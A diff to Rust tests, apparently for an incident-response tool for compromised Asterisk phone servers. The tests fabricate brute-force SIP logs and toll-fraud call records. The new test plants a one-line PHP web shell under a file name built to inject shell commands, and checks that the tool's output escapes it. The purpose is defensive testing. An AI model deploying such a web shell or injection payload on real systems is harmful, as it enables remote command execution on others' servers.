@@ -371,7 +371,6 @@ const HOSTILE: [&str; 8] = [
 /// A server on which accounts, trunks, contexts, agents, files and logs have hostile names.
 fn hostile_server(word: &str) -> Scratch {
     let scratch = Scratch::new();
-    let file_name: String = word.chars().filter(|letter| *letter != '/' && *letter != '\0').collect();
     let peers = format!(
         "[general]\ncontext=from-internal\nallowguest=yes\n[205]\ntype=friend\nhost=dynamic\nsecret=205\ncontext={word}\n\
          [{word}]\ntype=friend\nhost=dynamic\nsecret=guessable1\n[out{word}]\ntype=peer\nhost={word}.example\nsecret=Tr0nkS3cr3tWord\n"
@@ -384,14 +383,14 @@ fn hostile_server(word: &str) -> Scratch {
         ),
     );
     scratch.file("e/var/www/html/admin/config.php", "<?php // the panel\n");
-    scratch
-        .file(&format!("e/var/www/html/{file_name}.php"), "<?php @eval($_POST['x']); system($_GET['c']); ?>");
+    // More than an hour before the first use: whoever used an account at once was there before.
     let mut full = String::new();
     for minute in 0..40 {
-        full.push_str(&format!(
-            "[2026-03-07 02:{minute:02}:08] NOTICE[12] chan_sip.c: Registration from '\"{word}\" <sip:205@192.0.2.1>' failed for '198.51.100.4:5060' - Wrong password\n\
-             [2026-03-07 02:{minute:02}:09] NOTICE[12] chan_sip.c: Registration from '<sip:{word}@192.0.2.1>' failed for '198.51.100.4:5060' - Wrong password\n"
-        ));
+        for account in 201..210 {
+            let second = account * 7 % 60;
+            full.push_str(&format!("[2026-03-07 01:{minute:02}:{second:02}] NOTICE[12] chan_sip.c: Registration from '<sip:{account}@192.0.2.1>' failed for '198.51.100.4:5060' - Wrong password\n"));
+        }
+        full.push_str(&format!("[2026-03-07 01:{minute:02}:59] NOTICE[12] chan_sip.c: Registration from '\"{word}\" <sip:{word}@192.0.2.1>' failed for '198.51.100.4:5060' - Wrong password\n"));
     }
     let mut calls = String::new();
     full.push_str(&format!(
@@ -401,13 +400,10 @@ fn hostile_server(word: &str) -> Scratch {
     ));
     let quoted = word.replace('"', "\"\"");
     for call in 0..30 {
-        for account in ["205", quoted.as_str()] {
-            calls.push_str(&format!(
-                "\"\",\"{account}\",\"0088299800875{call:02}\",\"from-internal\",\"\"\"{quoted}\"\" <205>\",\"SIP/{account}-0000{call:04}\",\"SIP/out-0001{call:04}\",\"Dial\",\"SIP/out/008829980087{quoted}\",\"2026-03-07 03:{call:02}:01\",\"2026-03-07 03:{call:02}:03\",\"2026-03-07 03:{call:02}:59\",58,56,\"ANSWERED\",\"DOCUMENTATION\",\"{}.{call}{}\",\"\"\n",
-                1_772_852_401 + call * 60,
-                account.len()
-            ));
-        }
+        calls.push_str(&format!(
+            "\"\",\"205\",\"0088299800875{call:02}\",\"from-internal\",\"\"\"{quoted}\"\" <205>\",\"SIP/205-0000{call:04}\",\"SIP/out-0001{call:04}\",\"Dial\",\"SIP/out/008829980087{quoted}\",\"2026-03-07 03:{call:02}:01\",\"2026-03-07 03:{call:02}:03\",\"2026-03-07 03:{call:02}:59\",58,56,\"ANSWERED\",\"DOCUMENTATION\",\"{}.{call}\",\"\"\n",
+            1_772_852_401 + call * 60
+        ));
     }
     scratch.file("e/var/log/asterisk/full", &full);
     scratch.file("e/var/log/asterisk/cdr-csv/Master.csv", &calls);
@@ -485,6 +481,25 @@ fn check_markdown(name: &str, text: &str) {
         for raw in ["](http", "<img", "http://"] {
             assert!(!plain.contains(raw), "{name}: {line}");
         }
+    }
+}
+
+/// A page that an intruder left, under a name that breaks out of shells.
+#[test]
+fn a_hostile_file_is_left_to_a_person() {
+    for (name, is_moved) in [("x$(touch pwned)'; id #.php", false), ("modular.php", true)] {
+        let scratch = Scratch::new();
+        scratch.file("e/etc/asterisk/sip.conf", "[general]\ncontext=default\n");
+        scratch.file("e/var/www/html/admin/config.php", "<?php // the panel\n");
+        scratch.file(&format!("e/var/www/html/{name}"), "<?php @eval($_POST['x']); system($_GET['c']); ?>");
+        assert_eq!(code(&scratch.run(&["contain", "e", "-o", "case"])), 0);
+        let folder = scratch.path().join("case/contain");
+        let list = fs::read_to_string(folder.join("remove.md")).unwrap();
+        assert!(list.contains("pwned") || is_moved, "{list}");
+        check_markdown("remove.md", &list);
+        let script = fs::read_to_string(folder.join("set-aside.sh")).unwrap_or_default();
+        assert_eq!(script.contains("\nset_aside '/var/www/html/modular.php'\n"), is_moved, "{script}");
+        check_script("set-aside.sh", &script, name);
     }
 }
 
